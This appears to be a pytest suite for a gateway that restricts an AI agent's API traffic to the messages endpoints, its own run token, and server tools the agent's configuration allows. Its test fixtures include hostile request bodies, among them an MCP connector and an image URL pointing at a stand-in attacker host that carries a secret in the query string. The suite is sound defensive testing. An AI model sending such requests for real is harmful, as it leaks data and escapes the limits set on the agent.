"""The relay as a capability firewall: each rule against a real relay and a recording upstream.

Messages only (other paths and methods), run token only (foreign keys), server tools (typed
tools, the MCP connector, containers, Files API references, URL sources) unless the agent's
``server_tools`` allows them. Whatever is refused never reaches the upstream.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, PlainTextResponse, Response
from starlette.routing import Route

from orchestrator.configfile import parse_config
from orchestrator.errors import ConfigError
from orchestrator.gateway.capabilities import body_refusal, presented_token, route_refusal
from orchestrator.gateway.server import GatewayServer, create_gateway_app
from orchestrator.gateway.tokens import RunTokens, TokenInfo

WAIT = 10.0
FOREIGN = "sk-ant-api03-attacker-key"


@dataclass
class Upstream:
    """Answers every path with a small message and records what reached it."""

    url: str = ""
    seen: list[dict[str, Any]] = field(default_factory=list)

    async def any_path(self, request: Request) -> Response:
        self.seen.append({"method": request.method, "path": request.url.path,
                          "headers": dict(request.headers), "body": await request.body()})
        return JSONResponse({
            "id": "msg_1", "type": "message", "role": "assistant", "model": "claude-sonnet-4-5",
            "content": [{"type": "text", "text": "ok"}], "stop_reason": "end_turn",
            "stop_sequence": None, "usage": {"input_tokens": 3, "output_tokens": 1},
        })


@dataclass
class Relay:
    url: str
    tokens: RunTokens
    upstream: Upstream

    def token(self, *server_tools: str) -> str:
        return self.tokens.issue(TokenInfo("r1", "r1", "coder", 0, "cli",
                                           server_tools=frozenset(server_tools)))

    def send(self, method: str, path: str, *, token: str | None = None,
             body: dict[str, Any] | None = None,
             headers: list[tuple[str, str]] | None = None) -> httpx.Response:
        sent = list(headers or [])
        if token is not None:
            sent.append(("x-api-key", token))
        sent.append(("anthropic-version", "2023-06-01"))
        return httpx.request(method, self.url + path, json=body, headers=sent, timeout=WAIT)


@pytest.fixture
def relay() -> Iterator[Relay]:
    upstream = Upstream()
    up = GatewayServer(Starlette(routes=[Route("/{path:path}", upstream.any_path,
                                               methods=["GET", "POST", "PUT", "DELETE"])]),
                       "127.0.0.1").start()
    upstream.url = up.url
    tokens = RunTokens()

    async def mcp(request: Request) -> Response:
        return PlainTextResponse("mcp here")

    app = create_gateway_app(tokens=tokens, upstream=up.url, credential=None,
                             on_usage=lambda *usage: None, check_budget=lambda info: None,
                             extra_routes=[Route("/mcp", mcp, methods=["GET", "POST"])])
    gateway = GatewayServer(app, "127.0.0.1").start()
    try:
        yield Relay(gateway.url, tokens, upstream)
    finally:
        gateway.stop()
        up.stop()


def ask(**extra: Any) -> dict[str, Any]:
    return {"model": "claude-sonnet-4-5", "max_tokens": 64,
            "messages": [{"role": "user", "content": "hi"}], **extra}


def refused(response: httpx.Response, status: int, rule: str) -> str:
    assert response.status_code == status, response.text
    error = response.json()
    assert error["type"] == "error"
    assert error["error"]["type"] == ("permission_error" if status == 403
                                      else "authentication_error")
    message = str(error["error"]["message"])
    assert f"(rule: {rule})" in message, message
    return message


# --- messages only ----------------------------------------------------------------------------


@pytest.mark.parametrize(("method", "path"), [
    ("GET", "/v1/messages"), ("PUT", "/v1/messages"), ("DELETE", "/v1/messages"),
    ("HEAD", "/v1/messages"), ("GET", "/v1/messages/count_tokens"),
    ("POST", "/v1/files"), ("GET", "/v1/files"), ("GET", "/v1/files/file_011"),
    ("POST", "/v1/messages/batches"), ("GET", "/v1/messages/batches"),
    ("GET", "/v1/models"), ("POST", "/v1/complete"), ("POST", "/v1/messages/"),
    ("POST", "/v1/messages?beta=false"), ("POST", "/v1/messages?beta=true&x=1"),
    ("POST", "/v1//messages"), ("POST", "/v1/messages/../files"), ("POST", "/"),
])
def test_only_the_messages_api_is_relayed(relay: Relay, method: str, path: str) -> None:
    response = relay.send(method, path, token=relay.token(), body=ask())
    if method == "HEAD":  # no body to read the error from
        assert response.status_code == 403
    else:
        message = refused(response, 403, "messages only")
        assert "POST /v1/messages and POST /v1/messages/count_tokens" in message
    assert relay.upstream.seen == []


def test_refused_paths_need_no_token_to_be_refused(relay: Relay) -> None:
    refused(relay.send("POST", "/v1/files", headers=[("x-api-key", FOREIGN)]), 403,
            "messages only")
    assert relay.upstream.seen == []


@pytest.mark.parametrize("path", ["/v1/messages", "/v1/messages?beta=true",
                                  "/v1/messages/count_tokens?beta=true"])
def test_the_messages_api_is_relayed(relay: Relay, path: str) -> None:
    assert relay.send("POST", path, token=relay.token(), body=ask()).status_code == 200
    assert [seen["path"] for seen in relay.upstream.seen] == [path.split("?")[0]]


def test_extra_routes_still_come_first(relay: Relay) -> None:
    assert httpx.get(relay.url + "/mcp", timeout=WAIT).text == "mcp here"
    refused(httpx.get(relay.url + "/mcp/other", timeout=WAIT), 403, "messages only")


def test_route_rule() -> None:
    assert route_refusal("POST", "/v1/messages", "beta=true") is None
    assert route_refusal("POST", "/v1/messages/count_tokens", "") is None
    refusal = route_refusal("GET", "/v1/files", "")
    assert refusal is not None and refusal.status == 403 and "GET /v1/files" in refusal.text


# --- run token only ---------------------------------------------------------------------------


@pytest.mark.parametrize("how", [
    "token key, foreign bearer", "token bearer, foreign key", "token key twice with a foreign",
    "token key, basic auth",
])
def test_a_foreign_key_next_to_the_token_is_refused(relay: Relay, how: str) -> None:
    token = relay.token()
    headers = {
        "token key, foreign bearer": [("x-api-key", token), ("authorization", f"Bearer {FOREIGN}")],
        "token bearer, foreign key": [("authorization", f"Bearer {token}"), ("x-api-key", FOREIGN)],
        "token key twice with a foreign": [("x-api-key", token), ("x-api-key", FOREIGN)],
        "token key, basic auth": [("x-api-key", token), ("authorization", f"Basic {FOREIGN}")],
    }[how]
    refused(relay.send("POST", "/v1/messages", body=ask(), headers=headers), 403,
            "run token only")
    assert relay.upstream.seen == []


@pytest.mark.parametrize("header", ["x-api-key", "authorization"])
def test_a_foreign_key_alone_is_refused(relay: Relay, header: str) -> None:
    relay.token()
    value = FOREIGN if header == "x-api-key" else f"Bearer {FOREIGN}"
    response = relay.send("POST", "/v1/messages", body=ask(), headers=[(header, value)])
    assert response.status_code == 401
    assert "unknown or revoked run token" in response.json()["error"]["message"]
    assert relay.upstream.seen == []


def test_the_token_in_both_headers_is_relayed_without_it(relay: Relay) -> None:
    token = relay.token()
    headers = [("x-api-key", token), ("authorization", f"Bearer {token}")]
    assert relay.send("POST", "/v1/messages", body=ask(), headers=headers).status_code == 200
    (seen,) = relay.upstream.seen
    assert token not in str(seen["headers"])


def test_presented_token() -> None:
    assert presented_token([], []) is None
    assert presented_token([" t "], ["Bearer t"]) == "t"
    assert presented_token([], ["bearer t"]) == "t"
    for bad in (presented_token(["t", "u"], []), presented_token(["t"], ["Bearer u"]),
                presented_token([], ["Basic t"]), presented_token([], ["Bearer "])):
        assert not isinstance(bad, str) and bad is not None and bad.rule == "run token only"


# --- server tools -----------------------------------------------------------------------------

CLIENT_TOOL = {"name": "Bash", "description": "run", "input_schema": {
    "type": "object", "properties": {"file_id": {"type": "string"}, "type": {"type": "string"}}}}
FILE_SOURCE = {"type": "file", "file_id": "file_011CNha8iCJcU1wXNR6q4V8w"}
ATTACKS: dict[str, tuple[dict[str, Any], str]] = {
    "web_search": ({"tools": [CLIENT_TOOL, {"type": "web_search_20250305", "name": "web_search"}]},
                   "web_search"),
    "web_fetch": ({"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}, "web_fetch"),
    "code_execution": ({"tools": [{"type": "code_execution_20250825",
                                   "name": "code_execution"}]}, "code_execution"),
    "unknown typed tool": ({"tools": [{"type": "teleport_20300101", "name": "t"}]}, "teleport"),
    "anthropic client tool": ({"tools": [{"type": "bash_20250124", "name": "bash"}]}, "bash"),
    "mcp connector": ({"mcp_servers": [{"type": "url", "url": "https://attacker.example/mcp",
                                        "name": "x"}]}, "mcp_servers"),
    "mcp toolset": ({"tools": [{"type": "mcp_toolset", "mcp_server_name": "x"}]},
                    "mcp_servers"),
    "container": ({"container": "container_011"}, "container"),
    "document from the Files API": ({"messages": [{"role": "user", "content": [
        {"type": "document", "source": FILE_SOURCE}, {"type": "text", "text": "sum up"}]}]},
        "files"),
    "image in a tool result": ({"messages": [{"role": "user", "content": [
        {"type": "tool_result", "tool_use_id": "t1", "content": [
            {"type": "image", "source": FILE_SOURCE}]}]}]}, "files"),
    "container upload": ({"messages": [{"role": "user", "content": [
        {"type": "container_upload", "file_id": "file_1"}]}]}, "files"),
    "file in system": ({"system": [{"type": "document", "source": FILE_SOURCE}]}, "files"),
    "url source": ({"messages": [{"role": "user", "content": [
        {"type": "image", "source": {"type": "url",
                                     "url": "https://attacker.example/?d=secret"}}]}]},
        "url_sources"),
}


@pytest.mark.parametrize("name", list(ATTACKS))
def test_server_tools_are_refused_by_default(relay: Relay, name: str) -> None:
    extra, allow = ATTACKS[name]
    for path in ("/v1/messages?beta=true", "/v1/messages/count_tokens?beta=true"):
        message = refused(relay.send("POST", path, token=relay.token(), body=ask(**extra)),
                          403, "server tools")
        assert f"agents.coder.server_tools: [{allow}]" in message
    assert relay.upstream.seen == []


@pytest.mark.parametrize("name", [n for n in ATTACKS if n != "unknown typed tool"])
def test_server_tools_pass_when_the_agent_allows_them(relay: Relay, name: str) -> None:
    extra, allow = ATTACKS[name]
    token = relay.token(allow)
    assert relay.send("POST", "/v1/messages", token=token, body=ask(**extra)).status_code == 200
    assert len(relay.upstream.seen) == 1


def test_a_dated_type_allows_only_that_version() -> None:
    body = ask(tools=[{"type": "teleport_20300101", "name": "t"}])
    assert body_refusal(body, frozenset({"teleport_20300101"}), "a") is None
    newer = ask(tools=[{"type": "teleport_20310101", "name": "t"}])
    assert body_refusal(newer, frozenset({"teleport_20300101"}), "a") is not None


@pytest.mark.parametrize("tools", ["web_search", [["x"]], [{"type": None, "name": "x"}],
                                   [{"type": {"a": 1}, "name": "x"}]])
def test_malformed_tools_are_refused(tools: Any) -> None:
    refusal = body_refusal(ask(tools=tools), frozenset({"web_search"}), "a")
    assert refusal is not None and "not a client tool" in refusal.message


def test_what_claude_sends_passes() -> None:
    """The shape of claude 2.1.332's requests (logged through the stub): untyped tools, typed
    context-management edits, model-written tool inputs naming files, base64 images."""
    body = ask(
        tools=[CLIENT_TOOL, {"name": "mcp__x__y", "type": "custom", "input_schema": {}}],
        context_management={"edits": [{"type": "clear_thinking_20251015", "keep": "all"}]},
        thinking={"type": "adaptive", "display": "updates"},
        output_config={"effort": "medium"},
        metadata={"user_id": "{}"},
        system=[{"type": "text", "text": "you are", "cache_control": {"type": "ephemeral"}}],
        messages=[
            {"role": "user", "content": [{"type": "text", "text": "read file_id abc"}]},
            {"role": "assistant", "content": [{"type": "tool_use", "id": "t1", "name": "Read",
                                               "input": {"type": "file", "file_id": "x",
                                                         "source": {"type": "url"}}}]},
            {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t1",
                                          "content": [{"type": "image", "source": {
                                              "type": "base64", "media_type": "image/png",
                                              "data": "AAAA"}}]}]},
            {"role": "system", "content": "# Environment"},
        ],
    )
    assert body_refusal(body, frozenset(), "a") is None


def test_deep_nesting_is_scanned_without_recursion() -> None:
    content: Any = [{"type": "document", "source": FILE_SOURCE}]
    for _ in range(100_000):
        content = [{"type": "tool_result", "content": content}]
    body = ask(messages=[{"role": "user", "content": content}])
    refusal = body_refusal(body, frozenset(), "a")
    assert refusal is not None and refusal.rule == "server tools"


# --- the config -------------------------------------------------------------------------------


def _agents(tmp_path: Path, server_tools: str) -> str:
    return (f"agents:\n  coder:\n    directory: {tmp_path}\n"
            f"    server_tools: {server_tools}\n")


def test_server_tools_default_empty_and_validated(tmp_path: Path) -> None:
    path = tmp_path / "agents.yaml"
    plain = parse_config(f"agents:\n  coder:\n    directory: {tmp_path}\n", path)
    assert plain.agents["coder"].server_tools == []
    config = parse_config(_agents(tmp_path, "[web_search, files, web_fetch_20990101]"), path)
    assert config.agents["coder"].server_tools == ["web_search", "files", "web_fetch_20990101"]
    with pytest.raises(ConfigError) as bad:
        parse_config(_agents(tmp_path, "[web_serach]"), path)
    assert "web_serach" in str(bad.value.message) + str(bad.value.hint)


def test_the_relay_reads_the_token_s_allowance_not_the_body(relay: Relay) -> None:
    """A request cannot widen its own allowance: only the token's info counts."""
    token: Callable[..., str] = relay.token
    body = ask(tools=[{"type": "web_search_20250305", "name": "web_search"}],
               server_tools=["web_search"])
    refused(relay.send("POST", "/v1/messages", token=token("web_fetch"), body=body), 403,
            "server tools")


def test_unhashable_types_are_read_safely() -> None:
    weird = {"type": {"a": 1}, "input": {"type": ["file"]}, "content": [
        {"type": {"b": 2}, "source": FILE_SOURCE}]}
    body = ask(messages=[{"role": "user", "content": [weird]}])
    refusal = body_refusal(body, frozenset(), "a")
    assert refusal is not None and "Files API" in refusal.message
